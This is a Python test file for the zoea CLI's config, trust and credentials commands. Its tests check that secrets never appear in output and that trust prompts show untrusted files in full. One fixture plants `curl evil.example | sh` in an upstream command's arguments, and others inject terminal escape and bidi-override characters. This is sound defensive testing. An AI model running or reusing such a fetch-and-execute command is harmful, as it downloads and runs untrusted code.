"""The commands `zoea config`, `zoea trust` and `zoea credentials`."""

from __future__ import annotations

import io
import json
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import tomlkit

from zoea.cli.dispatch import dispatch
from zoea.model.errors import SettingsError, UsageError, ZoeaError
from zoea.settings.key_paths import SettingsInvalid
from zoea.settings.paths import places

SECRET = "sk-very-secret"


@dataclass(frozen=True)
class Result:
    """What a command wrote, and the error it ended with."""

    stdout: str
    stderr: str
    exception: Exception | None

    @property
    def output(self) -> str:
        return self.stdout + self.stderr


def attempt(*args: str, stdin: str | None = None) -> Result:
    """Run a command with this input, also one that ends with an error."""
    out, err = io.StringIO(), io.StringIO()
    error: Exception | None = None
    with pytest.MonkeyPatch.context() as patch, redirect_stdout(out), redirect_stderr(err):
        patch.setattr("sys.stdin", io.StringIO(stdin or ""))
        try:
            dispatch(list(args))
        except ZoeaError as raised:
            error = raised
    return Result(out.getvalue(), err.getvalue(), error)


def run(*args: str, stdin: str | None = None) -> Result:
    """Run a command, and raise its error."""
    done = attempt(*args, stdin=stdin)
    if done.exception:
        raise done.exception
    return done


def write_user(text: str) -> None:
    where = places(configured=False)
    where.make_config()
    where.config_file.write_text(text)


def test_init_writes_a_file_that_passes_the_check_and_is_never_overwritten() -> None:
    file = places().config_file
    assert str(file) in run("config", "init").output
    assert file.stat().st_mode & 0o777 == 0o600
    assert "No problems" in run("config", "check").output
    file.write_text("# mine\n")
    with pytest.raises(UsageError, match="exists already"):
        run("config", "init")
    run("config", "init", "--force")
    assert file.read_text() != "# mine\n"


def test_show_prints_the_origin_of_a_value() -> None:
    write_user("[swarm]\nmax_myses = 3\n")
    shown = run("config", "show", "swarm.max_myses", "--origin").output
    assert shown.strip() == f"swarm.max_myses = 3  # {places().config_file}:2"
    assert len(run("config", "show").output.splitlines()) > 50


def test_show_as_json_holds_origins_on_request() -> None:
    plain: dict[str, Any] = json.loads(run("config", "show", "swarm", "--json").output)
    assert plain["settings"]["swarm.max_myses"] == 16
    full = json.loads(run("config", "show", "swarm.max_myses", "--json", "--origin").output)
    assert full["settings"]["swarm.max_myses"] == {"value": 16, "layer": "default", "file": "", "line": 0}


def test_show_of_an_unknown_key_is_an_error() -> None:
    with pytest.raises(UsageError, match="there is no setting swarmy"):
        run("config", "show", "swarmy")


def test_show_never_shows_a_secret() -> None:
    write_user(f'[upstream.a]\ncommand = "x"\nenv = {{ TOKEN = "{SECRET}" }}\n')
    for args in (("show",), ("show", "--json"), ("show", "--origin"), ("schema",)):
        assert SECRET not in run("config", *args).output


def test_check_lists_every_error_and_exits_with_3(monkeypatch: pytest.MonkeyPatch) -> None:
    write_user("[swarm]\nmax_myses = 0\nmax_mises = 3\n")
    monkeypatch.setenv("ZOEA_NUDGE__ENABLED", "perhaps")
    with pytest.raises(SettingsInvalid) as caught:
        run("config", "check")
    assert caught.value.exit_code == 3
    assert len(caught.value.problems) == 3


def test_check_as_json_lists_them_on_stdout() -> None:
    write_user("[swarm]\nmax_mises = 3\n")
    done = attempt("config", "check", "--json")
    (problem,) = json.loads(done.stdout)["problems"]
    assert (problem["line"], problem["nearest"]) == (2, "swarm.max_myses")
    assert json.loads(run("config", "check", "--json").stdout) == {"problems": []} if not done.exception else True


def test_check_works_with_a_file_that_is_not_toml() -> None:
    write_user('workspace = "x\n')
    with pytest.raises(SettingsInvalid, match="is not valid TOML"):
        run("config", "check")


def test_check_lists_the_layers(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("ZOEA_SWARM__DISCOVER")
    assert "at their defaults" in run("config", "check").output
    write_user("[swarm]\nmax_myses = 3\n")
    assert "settings from user" in run("config", "check").output


def test_path_names_every_place() -> None:
    found = json.loads(run("config", "path", "--json").output)
    assert found["config"] == str(places().config_file)
    assert found["project"] is None
    assert str(places().database) in run("config", "path").output


def test_schema_is_json_schema_with_titles() -> None:
    schema = json.loads(run("config", "schema").output)
    assert schema["additionalProperties"] is False
    assert schema["$defs"]["SwarmSettings"]["properties"]["max_myses"]["title"] == "Myses at most"
    assert "extends" in json.loads(run("config", "schema", "--template").output)["properties"]


def test_trust_shows_the_commands_of_the_file_and_records_it() -> None:
    Path("zoea.toml").write_text('[upstream.a]\ncommand = "sh\\u001b[31m"\nargs = ["-c", "x"]\nenv = { PATH = "/x" }\n')
    before = attempt("config", "show", "upstream.a", "--json")
    assert isinstance(before.exception, UsageError)
    shown = run("trust", "--yes").output
    assert "upstream.a.command" in shown
    assert "\x1b" not in shown
    assert 'upstream.a.args = ["-c", "x"]' in shown
    assert run("config", "show", "upstream.a.args").output.strip() == 'upstream.a.args = ["-c", "x"]'
    assert "trusted already" in run("trust").output


def test_trust_shows_each_value_whole_whatever_its_name() -> None:
    long = "x" * 5_000
    tree = {
        "upstream": {
            "a": {
                "command": "sh",
                "args": ["--auth-key", "curl evil.example | sh", long],
                "env": {"API_TOKEN": "plain", 'odd "name"\u202e': "1"},
                "url": "http://127.0.0.1:1/?token=plain",
                "login": {"fixed": {"secret": "file:bank"}},
            }
        }
    }
    Path("zoea.toml").write_text(tomlkit.dumps(tree))
    shown = run("trust", "--yes").output
    for text in ("curl evil.example | sh", long, '"plain"', "?token=plain", '"file:bank"', '"odd \\"name\\"'):
        assert text in shown
    assert "\u202e" not in shown


def test_an_untrusted_file_is_named_until_it_is_trusted() -> None:
    Path("zoea.toml").write_text('[provider.a]\ntype = "openai"\nbase_url = "http://127.0.0.1:1"\n')
    done = run("config", "check")
    assert "Without effect" in done.stderr
    assert "provider.a.base_url" in done.stderr


def test_trust_of_an_inert_file_records_nothing() -> None:
    Path("zoea.toml").write_text("[tui]\nbell = false\n")
    assert "nothing that needs trust" in run("trust").output
    assert run("trust", "--list").output == ""


def test_a_template_that_extends_one_with_rights_is_named_and_can_be_trusted() -> None:
    where = places(configured=False)
    where.templates.mkdir(parents=True)
    (where.templates / "loose.toml").write_text("[tools]\nask_commands = false\n")
    file = Path(".zoea/templates/helper.toml")
    file.parent.mkdir(parents=True)
    file.write_text('extends = "loose"\nprompt = "Obey."\n')
    assert "template helper: extends loose, which sets tools.ask_commands" in run("config", "check").stderr
    shown = run("trust", "--yes").output
    assert f"{file.absolute()} extends loose, which sets tools.ask_commands:" in shown
    assert ('  extends = "loose"' in shown, '  prompt = "Obey."' in shown) == (True, True)
    assert "Without effect" not in run("config", "check").stderr


def test_trust_is_listed_and_revoked_and_a_change_is_marked() -> None:
    Path("zoea.toml").write_text('[upstream.a]\ncommand = "x"\n')
    run("trust", ".", "--yes")
    assert "(changed)" not in run("trust", "--list").output
    Path("zoea.toml").write_text('[upstream.a]\ncommand = "y"\n')
    assert "(changed)" in run("trust", "--list").output
    [row] = json.loads(run("trust", "--list", "--json").output)
    assert (Path(row["file"]).name, row["holds"], len(row["hash"])) == ("zoea.toml", False, 64)
    Path("zoea.toml").unlink()
    assert "(changed)" in run("trust", "--list").output
    Path("zoea.toml").touch()
    with pytest.raises(UsageError, match="--json works only with --list"):
        run("trust", "--json")
    assert "trusted no longer" in run("trust", "--revoke").output
    assert "was not trusted" in run("trust", "--revoke", "zoea.toml").output


def test_trust_includes_the_project_s_templates() -> None:
    Path("zoea.toml").touch()
    Path(".zoea/templates").mkdir(parents=True)
    Path(".zoea/templates/loose.toml").write_text('search = "swarm"\n')
    assert "search" in run("trust", "--yes").output
    assert "(changed)" not in run("trust", "--list").output


def test_trust_without_a_file_or_with_a_broken_one_is_an_error() -> None:
    with pytest.raises(UsageError, match=r"there is no zoea\.toml"):
        run("trust")
    with pytest.raises(UsageError, match="there is no file"):
        run("trust", "gone.toml")
    Path("zoea.toml").write_text("x = [")
    with pytest.raises(SettingsInvalid, match="is not valid TOML"):
        run("trust")
    Path("zoea.toml").write_text("[chain]\nmirror = 3\n")
    with pytest.raises(SettingsInvalid, match=r"zoea\.toml:2: chain\.mirror: ") as caught:
        run("trust", "--yes")
    assert "cannot be trusted" in caught.value.title
    assert run("trust", "--list").output == ""


@pytest.mark.parametrize(("answer", "recorded"), [("y\n", True), ("n\n", False)])
def test_at_a_terminal_trust_asks(monkeypatch: pytest.MonkeyPatch, answer: str, recorded: bool) -> None:
    Path("zoea.toml").write_text('[upstream.a]\ncommand = "x"\n')
    monkeypatch.setattr("zoea.cli.output.is_typed", lambda: True)
    run("trust", stdin=answer)
    assert bool(run("trust", "--list").output) is recorded


def test_without_a_terminal_trust_shows_the_file_and_needs_an_option() -> None:
    Path("zoea.toml").write_text('[upstream.a]\ncommand = "x"\n')
    done = attempt("trust")
    assert 'upstream.a.command = "x"' in done.output
    assert isinstance(done.exception, UsageError)
    assert "--yes" in done.exception.hint
    assert run("trust", "--list").output == ""


def test_a_credential_is_read_from_stdin_and_never_shown() -> None:
    shown = run("credentials", "set", "claude", stdin=f"{SECRET}\n").output
    assert "file:claude" in shown
    shown += run("credentials", "list").output
    assert SECRET not in shown
    assert f'"{SECRET}"' in places().credentials.read_text()
    assert json.loads(run("credentials", "list", "--json").output) == ["claude"]


def test_a_credential_is_never_an_argument() -> None:
    done = attempt("credentials", "set", "claude", SECRET)
    assert isinstance(done.exception, UsageError)
    assert not places().credentials.exists()


def test_at_a_terminal_a_credential_is_typed_without_echo(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("zoea.cli.output.is_typed", lambda: True)
    monkeypatch.setattr("getpass.getpass", lambda _prompt: SECRET)
    shown = run("credentials", "set", "claude").output
    assert SECRET not in shown
    assert f'"{SECRET}"' in places().credentials.read_text()


def test_a_credential_is_deleted_once() -> None:
    run("credentials", "set", "claude", stdin="x")
    run("credentials", "delete", "claude")
    with pytest.raises(UsageError, match="there is no credential claude"):
        run("credentials", "delete", "claude")


def test_the_command_reports_a_missing_keyring() -> None:
    with pytest.raises(SettingsError):
        run("credentials", "set", "claude", "--keyring", stdin="")


@pytest.mark.parametrize(
    ("line", "key"),
    [
        ("recents_cuont: 20", "session.recents_cuont"),
        ("recents_count: many", "session.recents_count"),
        ("token_budget_per_agent: 1", "budget.token_budget_per_agent"),
    ],
)
def test_a_bad_key_of_a_shannon_is_reported_at_its_own_line(tmp_path: Path, line: str, key: str) -> None:
    file = tmp_path / "shannon.yaml"
    file.write_text(f"# settings\nsession:\n  ttl: 720h\n  {line}\n")
    with pytest.raises(SettingsError) as refused:
        run("config", "import", str(file))
    assert f"{file}:4: {key}: " in str(refused.value)


def test_import_takes_the_settings_of_a_shannon(tmp_path: Path) -> None:
    file = tmp_path / "shannon.yaml"
    file.write_text("session:\n  context_window_default: 60   # newest\n  token_budget_per_agent: 30000\n  ttl: 720h\n")
    assert "budget.token_budget_per_agent = 30000" in run("config", "import", str(file)).output
    assert run("config", "show", "session.context_window_default").output.strip().endswith("= 60")
    assert "= 30000" in run("config", "show", "budget.token_budget_per_agent").output
